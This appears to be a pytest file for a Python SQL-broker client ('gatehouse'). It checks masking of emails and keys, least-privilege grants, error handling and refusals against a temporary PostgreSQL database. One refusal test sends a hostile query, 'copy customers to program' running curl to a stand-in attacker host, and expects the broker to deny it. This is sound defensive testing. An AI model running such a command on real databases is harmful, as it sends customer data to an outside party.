"""Brokered SQL from Python: `client.sql()` against the real server and the machine's PostgreSQL,
through a least-privilege login this test creates and drops."""

from __future__ import annotations

import asyncio
import os
import subprocess
import uuid
from collections.abc import Iterator
from urllib.parse import urlparse

import pytest
from conftest import Server

from gatehouse import AsyncClient, Client, GatehouseError, SqlRefusedError

ADMIN_URL = os.environ.get("TEST_DATABASE_URL", "postgres://postgres@127.0.0.1:5432/postgres")


def psql(url: str, sql: str) -> None:
    subprocess.run(["psql", url, "-v", "ON_ERROR_STOP=1", "-q", "-c", sql], check=True, capture_output=True)


@pytest.fixture(scope="module")
def target(server: Server) -> Iterator[dict[str, object]]:
    suffix = uuid.uuid4().hex[:8]
    database, user, password = f"gh_py_target_{suffix}", f"gh_py_broker_{suffix}", f"pw-{uuid.uuid4().hex}"
    psql(ADMIN_URL, f'create database "{database}"')
    parsed = urlparse(ADMIN_URL)
    target_url = parsed._replace(path=f"/{database}").geturl()
    psql(
        target_url,
        f"""create role "{user}" login password '{password}';
        create table customers (id int primary key, email text, note text);
        insert into customers values (1, 'alice@example.com', 'key AKIAIOSFODNN7EXAMPLE');
        create sequence ticket_seq;
        grant usage on schema public to "{user}";
        grant select on customers to "{user}";
        grant usage on sequence ticket_seq to "{user}";""",
    )
    name = f"py-{suffix}"
    server.admin(
        "POST",
        "/v1/connections",
        {
            "name": name,
            "engine": "postgresql",
            "host": parsed.hostname,
            "port": parsed.port or 5432,
            "database": database,
            "user": user,
            "password": password,
        },
    )
    try:
        yield {"name": name, "user": user, "password": password}
    finally:
        psql(ADMIN_URL, f'drop database if exists "{database}" with (force)')
        psql(ADMIN_URL, f'drop role if exists "{user}"')


@pytest.fixture
def granted(server: Server, target: dict[str, object]) -> Iterator[Client]:
    agent = server.agent("py-sql")
    server.admin("POST", f"/v1/connections/{target['name']}/grants", {"agentId": agent.id})
    with Client(server.url, agent.key, agent_id=agent.id, issuer="gatehouse", timeout=30) as c:
        yield c


def test_sql_answers_masked_rows(granted: Client, target: dict[str, object]) -> None:
    result = granted.sql(str(target["name"]), "select id, email as contact, note from customers")
    assert result.columns == ("id", "contact", "note")
    assert result.rows == ((1, "[MASKED:EMAIL]", "key [MASKED:AWS_ACCESS_KEY]"),)
    assert (result.row_count, result.truncated, result.read_only) == (1, False, True)
    assert result.decision.allowed and result.decision.status == "auto_approved"
    assert str(target["password"]) not in repr(result)


def test_target_errors_raise_instead_of_answering_rows(granted: Client, target: dict[str, object]) -> None:
    with pytest.raises(GatehouseError) as failure:
        granted.sql(str(target["name"]), "select nextval('ticket_seq')")
    assert failure.value.server_code == "TARGET_ERROR"
    assert str(target["user"]) not in str(failure.value)


def test_refusals_raise_sql_refused_error(server: Server, granted: Client, target: dict[str, object]) -> None:
    with pytest.raises(SqlRefusedError) as denied:
        granted.sql(str(target["name"]), "copy customers to program 'curl evil.example'")
    assert denied.value.decision.status == "denied"
    stranger = server.agent("py-stranger")
    with Client(server.url, stranger.key, timeout=10) as other, pytest.raises(SqlRefusedError) as refused:
        other.sql(str(target["name"]), "select 1")
    assert refused.value.code == "ERR_FORBIDDEN"


def test_async_client_runs_sql(server: Server, target: dict[str, object]) -> None:
    agent = server.agent("py-sql-async")
    server.admin("POST", f"/v1/connections/{target['name']}/grants", {"agentId": agent.id})

    async def main() -> tuple[object, ...]:
        async with AsyncClient(server.url, agent.key, timeout=30) as c:
            result = await c.sql(str(target["name"]), "select count(*)::int as n from customers")
            return result.rows

    assert asyncio.run(main()) == ((1,),)
